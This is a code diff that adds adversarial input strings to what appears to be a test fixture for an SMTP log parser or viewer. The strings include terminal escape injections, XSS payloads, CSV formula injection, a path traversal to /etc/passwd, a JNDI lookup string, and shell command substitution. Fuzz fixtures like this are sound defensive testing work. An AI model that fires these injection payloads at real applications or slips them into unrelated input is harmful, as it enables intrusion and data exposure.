@@ -22,6 +22,23 @@ TEXTS = [
     "\ufffe\uffff\U000e0041",
     "comma, \"quote\"; semicolon",
     "emoji \U0001f4a9 umlaut \u00fc",
+    "\x1b]52;c;ZXZpbA==\x07clipboard",
+    "\x1b]8;;http://example.com/\x1b\\link\x1b]8;;\x1b\\",
+    "\u009d52;c;ZXZpbA==\u009c \x1bP+q544e\x1b\\ \x1b[6n\x1b[21t",
+    "Z" + "\u0301\u0489\u20dd" * 40,
+    "\u3164\u2800\u115f\uffa0\ufe0f\U0001d173",
+    "\u05d0\u05d1\u05d2 123 \u0627\u0644",
+    "x;=1+1;\"=2+2\"; \uff1d3,@SUM(1)",
+    "\t=1+1",
+    "\r-1",
+    "  +1",
+    "\",\"reply\":\"250\"},{\"log\":\"debug",
+    "\\\",\\u0022\\n}",
+    "</script><script>document.title='owned'</script>",
+    "</title></style><svg onload=document.title='owned'>",
+    "javascript:document.title='owned'",
+    "<!--", "-->", "]]>", "<base href=//example.com>", "<meta http-equiv=refresh content=0>",
+    "../../etc/passwd", "${jndi:ldap://example.com/a}", "`id` $(id)", "{{7*7}}",
 ]
 LONG = "x" * 1000000
 
@@ -45,5 +62,5 @@ def log():
                 b"550 Requested action not taken: mailbox unavailable or not local."),
             row(4 * i + 1, b"AUTH", b"{blank}", b"535 Invalid Username or Password", raw),
         ]
-    lines.append(row(200, b"AUTH", b"{blank}", b"535 Invalid Username or Password", b"\xff\xc3\x28\xed\xa0\x80"))
+    lines.append(row(3000, b"AUTH", b"{blank}", b"535 Invalid Username or Password", b"\xff\xc3\x28\xed\xa0\x80"))
     return b"".join(lines)
